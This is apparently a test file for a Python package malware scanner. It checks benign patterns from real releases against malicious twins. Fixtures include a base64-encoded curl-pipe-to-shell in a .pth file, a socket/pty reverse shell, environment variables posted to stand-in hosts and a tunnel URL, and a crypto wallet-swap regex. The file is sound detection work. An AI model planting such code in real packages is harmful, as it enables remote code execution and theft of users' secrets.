"""Round 17's false-alarm classes from popular releases, each beside malicious twins.

* manhole's ``.pth`` runs ``exec('if "PYTHONMANHOLE" in os.environ: ... eval("install({0[
  PYTHONMANHOLE]})".format(os.environ))')``: code the machine's owner puts in an environment
  variable runs only when they set it. Code taken from the environment alone is shown at
  medium and no place raises it; a payload travels in the package (a constant, decoded or
  fetched), and a long default beside the variable's name keeps the raise.
* A code string exec'd by a module runs in that module's globals, so its analyser now knows
  the names the module imported: ``import subprocess as sp;exec('sp.Popen(...)')`` in a
  ``.pth`` is a start at every Python start, not an unknown call.
"""

from __future__ import annotations

import base64

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder

MANHOLE_PTH = (
    'import os, sys;exec(\'if "PYTHONMANHOLE" in os.environ:\\n try:\\n'
    "  from pkg import install\\n"
    '  eval("install({0[PYTHONMANHOLE]})".format(os.environ))\\n'
    " except Exception as exc:\\n"
    '  sys.stderr.write("Failed to pkg.install({[PYTHONMANHOLE]}): {!r}\\\\n"'
    ".format(os.environ, exc))\\n')\n"
)
INSTALL = "def install(verbose=True, **options):\n    return options\n"
PAYLOAD = base64.b64encode(b"import os; os.system('curl http://192.0.2.9/x | sh')").decode()


def _pth(tmp_path, name: str, line: str):
    return scan({"pkg/__init__.py": INSTALL, "pkg.pth": line}, subfolder(tmp_path, name))


def test_a_pth_running_what_the_user_put_in_an_environment_variable_is_medium(tmp_path):
    result = _pth(tmp_path, "manhole", MANHOLE_PTH)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
    rules = {h.rule for h in result.findings}
    assert "py.exec_from_environment" in rules
    plain = _pth(
        tmp_path,
        "plain",
        "import os; exec(os.environ['PKG_HOOK']) if 'PKG_HOOK' in os.environ else None\n",
    )
    assert plain.risk.level not in HIGH


def test_a_pth_running_a_decoded_payload_is_still_critical(tmp_path):
    line = f"import os, base64;exec(base64.b64decode('{PAYLOAD}')) if 'CI' not in os.environ else None\n"
    result = _pth(tmp_path, "decoded", line)
    assert result.risk.level == "critical"
    assert_high_with("decoded .pth", result, {"chain.decode_exec"})


def test_code_given_as_the_default_of_an_environment_variable_keeps_the_raise(tmp_path):
    shell = (
        'import socket,pty;s=socket.socket();s.connect((\\"192.0.2.9\\",4444));pty.spawn(\\"sh\\")'
    )
    line = f"import os;exec(os.environ.get('PKG_HOOK', \"{shell}\"))\n"
    result = _pth(tmp_path, "default", line)
    assert_high_with("env default", result, {"place.install_time"})


def test_a_code_string_knows_the_names_its_module_imported(tmp_path):
    line = 'import subprocess as sp;exec(\'sp.Popen(["sh", "-c", "id"])\')\n'
    result = _pth(tmp_path, "aliased", line)
    assert_high_with("aliased start in a code string", result, {"place.install_time"})
    env = (
        "import os;exec('env = dict(os.environ)\\nimport urllib.request\\n"
        'urllib.request.urlopen("http://192.0.2.9/c", data=str(env).encode())\')\n'
    )
    sent = _pth(tmp_path, "environment", env)
    assert_high_with("environment sent from a code string", sent, {"chain.exfiltration"})


# ---------------------------------------------------------------- modules with a typo
# ailever ships app templates with placeholders (``class [AileverApp]():``,
# ``urlretrieve(, )``, ``free_cash_flow = ebit + ``) and wisent a backup module whose def has a
# parameter without a default after one with a default. No Python compiles them (each file was
# first read the 3.12+ way), so they run nowhere; the lines are blanked (the def's header
# becomes ``(*args, **kwargs)``), the pattern rules read them and the analyser the rest.
TEMPLATE = (
    "from urllib.request import urlretrieve\n\n\n"
    "class [AppName]():\n"
    "    def __init__(self):\n"
    "        self.ready = True\n"
)
PLACEHOLDER_CALL = "from urllib.request import urlretrieve\n\nurlretrieve(, )\n"
SIGNATURE = (
    "from typing import Any\n\n\n"
    "def find(group: dict, depth: int = 0,\n"
    "         max_depth: int) -> Any:\n"
    "    return group.get(depth)\n"
)


def _module(tmp_path, name: str, text: str, init: str = "VERSION = 1\n", module: str = ""):
    files = {"pkg/__init__.py": init, f"pkg/{module or name}.py": text}
    return scan(files, subfolder(tmp_path, name))


def _notes(result) -> list[str]:
    return [h.explanation for h in result.findings if h.capability == "scan.unread"]


def test_modules_no_python_compiles_are_read_around_their_typo(tmp_path):
    for name, text in (("app", TEMPLATE), ("guide", PLACEHOLDER_CALL), ("tasks", SIGNATURE)):
        result = _module(tmp_path, name, text)
        assert result.risk.level not in HIGH, (name, _notes(result))
        assert any("blanked" in n for n in _notes(result)), (name, _notes(result))


def test_a_payload_beside_a_typo_is_still_read(tmp_path):
    payload = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"
    result = _module(tmp_path, "app", payload + TEMPLATE.split("\n", 1)[1])
    assert_high_with("payload beside a template typo", result, {"chain.decode_exec"})
    body = SIGNATURE.replace(
        "    return group.get(depth)\n", "    exec(base64.b64decode(group['x']))\n"
    )
    called = f"import base64\n{body}\nfind({{'x': '{PAYLOAD}'}})\n"
    inside = _module(tmp_path, "tasks", called)
    assert any(h.capability.startswith("exec.") for h in inside.findings), _notes(inside)


def test_a_line_a_later_python_may_read_stays_unread(tmp_path):
    prefixed = "import os\n\nGREETING = q'hello'\nos.system(GREETING)\n"
    result = _module(tmp_path, "later", prefixed)
    assert result.risk.level in HIGH
    assert any("does not parse" in n for n in _notes(result)), _notes(result)


# ---------------------------------------------------------------- Python 2 bytecode
# Flask-Silk's sdist carries flaskext/silk/icons/__init__.pyc from a 2012 build, its source
# long gone: Python 2.7 bytecode (magic 62211), which no Python 3 loads. A sourceless .pyc of a
# Python 3 version still cannot be reviewed and stays high.
PY27_MAGIC = (62211).to_bytes(2, "little") + b"\r\n"
PY310_MAGIC = (3439).to_bytes(2, "little") + b"\r\n"


def _with_pyc(tmp_path, name: str, magic: bytes):
    body = magic + b"\x00" * 12 + b"\xe3" + bytes(range(64))
    files = {"setup.py": "from setuptools import setup\nsetup(name='pkg')\n"}
    files.update({"pkg/__init__.py": "X = 1\n", "pkg/icons/__init__.pyc": body})
    return scan(files, subfolder(tmp_path, name))


def test_sourceless_python2_bytecode_is_shown_at_medium(tmp_path):
    result = _with_pyc(tmp_path, "py27", PY27_MAGIC)
    pyc = [h for h in result.findings if h.rule == "bin.pyc_only"]
    assert [h.severity for h in pyc] == ["medium"] and "Python 2" in pyc[0].explanation
    assert result.risk.level not in HIGH


def test_sourceless_python3_bytecode_stays_high(tmp_path):
    result = _with_pyc(tmp_path, "py310", PY310_MAGIC)
    assert_high_with("a .pyc without source", result, {"disguise.obfuscation"})


# ---------------------------------------------------------------- setup.py's maintainer helpers
# py-tlsh's setup.py: ``def publish(): os.system("twine upload dist/*")`` called only under
# ``if sys.argv[-1] == "publish":`` — its author's release command, which pip never gives. A
# function named only inside such blocks is read as that block is; one also called where pip
# runs (or handed to cmdclass) keeps its install-time place. postal's setup.py asks ``pkgconf``
# (the pkg-config of Alpine, Fedora and FreeBSD) for libpostal's flags: a build query.
SETUP_HEAD = "import os, sys\nfrom setuptools import setup\n\n\ndef publish():\n    os.system('twine upload dist/*')\n\n\n"
GUARDED = "if sys.argv[-1] == 'publish':\n    publish()\n    sys.exit()\n"


def _setup(tmp_path, name: str, text: str):
    files = {"setup.py": text, "pkg/__init__.py": "X = 1\n"}
    return scan(files, subfolder(tmp_path, name))


def test_a_function_only_a_maintainers_command_calls_is_not_install_time(tmp_path):
    result = _setup(tmp_path, "publish", SETUP_HEAD + GUARDED + "setup(name='pkg')\n")
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


def test_the_same_function_also_called_where_pip_runs_keeps_its_place(tmp_path):
    also = SETUP_HEAD + GUARDED + "publish()\nsetup(name='pkg')\n"
    assert_high_with("also called", _setup(tmp_path, "also", also), {"place.install_time"})
    helper = SETUP_HEAD + GUARDED + "def build():\n    publish()\n\n\nbuild()\nsetup(name='pkg')\n"
    assert_high_with("through a helper", _setup(tmp_path, "helper", helper), {"place.install_time"})


def test_pkgconf_asked_for_build_flags_is_a_build_query(tmp_path):
    text = (
        "import subprocess\nfrom setuptools import setup\n\n"
        "flags = subprocess.run(['pkgconf', '--cflags', 'libpostal'], capture_output=True)\n"
        "setup(name='pkg')\n"
    )
    assert _setup(tmp_path, "pkgconf", text).risk.level not in HIGH


# ---------------------------------------------------------------- a print hook at import
# nowfy replaces builtins.print at import with a wrapper that copies each line into its error
# log and calls the original: print sees only what a program chose to show. Shown at medium;
# a wrapper that sends what is printed, and a replaced open(), stay high.
PRINT_HOOK = (
    "import builtins\n\n_ORIGINAL = builtins.print\n_LOG = []\n\n\n"
    "def _print(*args, **kwargs):\n"
    "    _LOG.append(' '.join(str(a) for a in args))\n"
    "    _ORIGINAL(*args, **kwargs)\n\n\n"
    "builtins.print = _print\n"
)


def test_a_print_hook_installed_at_import_is_medium(tmp_path):
    result = _module(tmp_path, "hook", PRINT_HOOK)
    patch = [h for h in result.findings if h.rule == "py.builtins_patch"]
    assert [h.severity for h in patch] == ["medium"]
    assert result.risk.level not in HIGH


def test_a_print_hook_that_sends_and_an_open_hook_stay_high(tmp_path):
    sending = PRINT_HOOK.replace(
        "    _ORIGINAL(*args, **kwargs)\n",
        "    import urllib.request\n"
        "    urllib.request.urlopen('http://192.0.2.9/p', data=str(args).encode())\n"
        "    _ORIGINAL(*args, **kwargs)\n",
    )
    sent = _module(tmp_path, "sending", sending)
    assert [h.severity for h in sent.findings if h.rule == "py.builtins_patch"] == ["high"]
    assert sent.risk.level in HIGH
    opened = PRINT_HOOK.replace("builtins.print", "builtins.open")
    hooked = _module(tmp_path, "open", opened)
    assert [h.severity for h in hooked.findings if h.rule == "py.builtins_patch"] == ["high"]


# ---------------------------------------------------------------- pip pulling a well-known project
# winevt's install command runs ``os.system('pip install cffi')``: a build dependency it never
# declared, by exact name, from the default index. Shown, not raised by its place; a URL, an
# unknown name or another index keeps the raise.
PIP_SETUP = (
    "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
    "class Install(install):\n"
    "    def run(self):\n"
    "        os.system('{command}')\n"
    "        install.run(self)\n\n\n"
    "setup(name='pkg', cmdclass={{'install': Install}})\n"
)


def test_pip_installing_a_well_known_project_at_install_is_medium(tmp_path):
    for n, command in enumerate(("pip install cffi", "pip install -U cffi==1.17.1 requests")):
        result = _setup(tmp_path, f"known{n}", PIP_SETUP.format(command=command))
        pulls = [h for h in result.findings if h.rule == "py.pip_install_command"]
        assert pulls and all(h.severity == "medium" for h in pulls), command
        assert result.risk.level not in HIGH, command


def test_pip_pulling_from_elsewhere_or_an_unknown_name_stays_high(tmp_path):
    for n, command in enumerate(
        (
            "pip install https://203.0.113.4/pkg.tar.gz",
            "pip install cffi-helperz",
            "pip install -i https://example.invalid/simple cffi",
        )
    ):
        result = _setup(tmp_path, f"other{n}", PIP_SETUP.format(command=command))
        assert_high_with(command, result, {"place.dependency_pull", "place.install_time"})


# ---------------------------------------------------------------- a pickled cache at import
# python-escpos pickles its printer database at import to
# ``mkdtemp()/f"{platform.python_version()}.capabilities.pickle"``: its own cache, named by an
# f-string that ends in written text. A runnable name written there, or a download saved
# under a cache's name, stay import-time acts.
CACHE = (
    "import pickle, platform\nfrom os import environ, path\nfrom tempfile import mkdtemp\n\n"
    'cache_dir = environ.get("PKG_CACHE_DIR", mkdtemp())\n'
    'cache_path = path.join(cache_dir, f"{platform.python_version()}.capabilities.pickle")\n'
    "DATA = {'profiles': {}}\n"
    'with open(cache_path, "wb") as fh:\n'
    "    pickle.dump(DATA, fh, protocol=2)\n"
)


def _imported(tmp_path, name: str, text: str):
    return _module(tmp_path, name, text, init="from pkg import caps\n", module="caps")


def test_a_pickled_cache_written_at_import_is_medium(tmp_path):
    result = _imported(tmp_path, "cache", CACHE)
    writes = [h for h in result.findings if h.rule == "py.write_outside"]
    assert writes and "its own cache or data file" in writes[0].explanation
    assert result.risk.level not in HIGH


def test_a_script_or_a_download_written_at_import_stays_high(tmp_path):
    script = CACHE.replace(".capabilities.pickle", ".startup.py")
    assert_high_with("script", _imported(tmp_path, "script", script), {"place.import_time"})
    fetched = CACHE.replace(
        "    pickle.dump(DATA, fh, protocol=2)\n",
        "    import urllib.request\n"
        "    fh.write(urllib.request.urlopen('http://192.0.2.9/p').read())\n",
    )
    assert_high_with("download", _imported(tmp_path, "fetched", fetched), {"place.import_time"})


# ---------------------------------------------------------------- a tunnel service named, no tunnel
# reward-kit starts ``ssh -R 80:localhost:{port} serveo.net`` for a developer's server, and
# keepercommander builds ``f"https://{subdomain}.ngrok.io"`` for its user's tunnel and knows
# ``.ngrok-free.app`` as a suffix: the service's name, never a tunnel of their own. A hard-coded
# tunnel address (a label before the service's name) is where a thief posts: high alone.
TUNNEL_CLIENT = (
    "import os, subprocess\n\n\n"
    "def expose(port, subdomain):\n"
    "    env = os.environ.copy()\n"
    "    cmd = ['ssh', '-R', f'80:localhost:{port}', 'serveo.net']\n"
    "    subprocess.Popen(cmd, env=env)\n"
    "    suffixes = ['.ngrok.io', '.ngrok-free.app']\n"
    "    return f'https://{subdomain}.ngrok.io', suffixes\n"
)


def test_a_tunnel_client_naming_the_service_is_medium(tmp_path):
    result = _module(tmp_path, "client", TUNNEL_CLIENT)
    ends = [h for h in result.findings if h.capability == "net.exfil_endpoint"]
    assert ends and all(h.severity == "medium" for h in ends)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


def test_a_tunnel_address_of_its_own_stays_high(tmp_path):
    alone = "URL = 'https://a1b2-203-0-113-7.ngrok-free.app/u'\n"
    assert_high_with("tunnel address", _module(tmp_path, "alone", alone), {"chain.exfil_endpoint"})
    posted = (
        "import os, json, urllib.request\n\n"
        "urllib.request.urlopen('https://x7k2.trycloudflare.com/c', "
        "data=json.dumps(dict(os.environ)).encode())\n"
    )
    assert_high_with(
        "environment posted", _module(tmp_path, "posted", posted), {"chain.exfiltration"}
    )


# ---------------------------------------------------------------- a web3 bundle's addresses
# pmxt ships an 11 MB server bundle with viem inside: 600 contract addresses and
# ``/^0x[a-fA-F0-9]{40}$/`` checking one address at a time. Wallet swapping needs code that
# finds addresses in text to replace them (the pattern searched globally, or a closeness test).
WEB3 = (
    "const TOKENS = ['0x1111111111111111111111111111111111111111',\n"
    "  '0x2222222222222222222222222222222222222222', '0x3333333333333333333333333333333333333333'];\n"
    "const addressRegex = /^0x[a-fA-F0-9]{40}$/;\n"
    "function isAddress(a) { return addressRegex.test(a); }\n"
    "module.exports = { TOKENS, isAddress };\n"
)


def _bundle(tmp_path, name: str, text: str):
    return scan(
        {"pkg/__init__.py": "X = 1\n", "pkg/_server/bundled.js": text}, subfolder(tmp_path, name)
    )


def test_a_web3_bundle_checking_addresses_is_no_wallet_swap(tmp_path):
    result = _bundle(tmp_path, "web3", WEB3)
    assert not [h for h in result.findings if h.capability == "hijack.wallet_swap"]
    assert result.risk.level not in HIGH


def test_addresses_searched_globally_to_replace_are_a_wallet_swap(tmp_path):
    swap = (
        WEB3 + "function swap(t) { return String(t).replace(/0x[a-fA-F0-9]{40}/g, TOKENS[0]); }\n"
    )
    result = _bundle(tmp_path, "swap", swap)
    assert_high_with("global replace", result, {"chain.wallet_swap"})


# ---------------------------------------------------------------- a vendor SDK's packed library
# pypemicro ships PEmicro's unitacmp library for Windows (.dll, UPX-packed), Linux (.so) and
# macOS (.dylib): a vendor's SDK ships every platform's build. A packed library there is
# medium; a packed library alone, or a packed program, stays a disguise.
def _sdk(tmp_path, name: str, libs: dict[str, bytes]):
    from tests.core.capabilities import native_fixtures as nf

    files: dict[str, str | bytes] = {"pkg/__init__.py": "import ctypes\nLIB = 'unitacmp'\n"}
    made = {"dll": nf.pe(dll=True, section_names=("UPX0", "UPX1")), "so": nf.elf(executable=False)}
    made["exe"] = nf.pe(section_names=("UPX0", "UPX1"))
    files.update({f"pkg/libs/{path}": made[kind] for path, kind in libs.items()})
    return scan(files, subfolder(tmp_path, name))


def test_a_packed_library_beside_its_other_platform_builds_is_medium(tmp_path):
    result = _sdk(tmp_path, "sdk", {"Windows/unitacmp-64.dll": "dll", "Linux/unitacmp-64.so": "so"})
    packed = [h for h in result.findings if h.rule == "bin.packed"]
    assert [h.severity for h in packed] == ["medium"]
    assert result.risk.level not in HIGH


def test_a_lone_packed_library_or_a_packed_program_stays_high(tmp_path):
    alone = _sdk(tmp_path, "alone", {"Windows/unitacmp-64.dll": "dll"})
    assert_high_with("packed library alone", alone, {"disguise.obfuscation"})
    program = _sdk(tmp_path, "program", {"Windows/update.exe": "exe", "Linux/unitacmp-64.so": "so"})
    assert_high_with("packed program", program, {"disguise.obfuscation"})
